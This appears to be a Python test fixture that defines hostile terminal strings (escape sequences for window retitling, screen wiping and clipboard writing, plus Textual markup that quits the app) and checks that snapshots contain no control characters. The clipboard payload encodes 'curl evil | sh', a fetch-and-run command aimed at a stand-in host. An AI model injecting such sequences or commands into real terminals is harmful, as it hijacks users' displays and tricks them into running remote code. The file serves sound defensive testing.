"""What a hostile node puts into every string it can: shared by the hostile-collector tests."""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Iterator

# Retitle the window, write the clipboard, wipe the screen, ring; Textual markup that quits the app.
OSC_TITLE = "\x1b]0;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
WIPE = "\x1b[2J"
BEL = "\x07"
MARKUP = "[/]x[@click=app.quit]y"
HOSTILE = f"{OSC_TITLE}{OSC_CLIPBOARD}{WIPE}{BEL}{MARKUP}"
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029]")


def strings(value: object) -> Iterator[str]:
    """Every string inside a snapshot (dataclasses, tuples, dicts), recursively."""
    if isinstance(value, str):
        yield value
    elif dataclasses.is_dataclass(value) and not isinstance(value, type):
        for field in dataclasses.fields(value):
            yield from strings(getattr(value, field.name))
    elif isinstance(value, tuple | list | set | frozenset):
        for item in value:
            yield from strings(item)
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from strings(key)
            yield from strings(item)


def assert_clean(snapshot: object) -> None:
    """No control character anywhere in the snapshot's strings."""
    dirty = [text for text in strings(snapshot) if CONTROL.search(text)]
    assert dirty == []
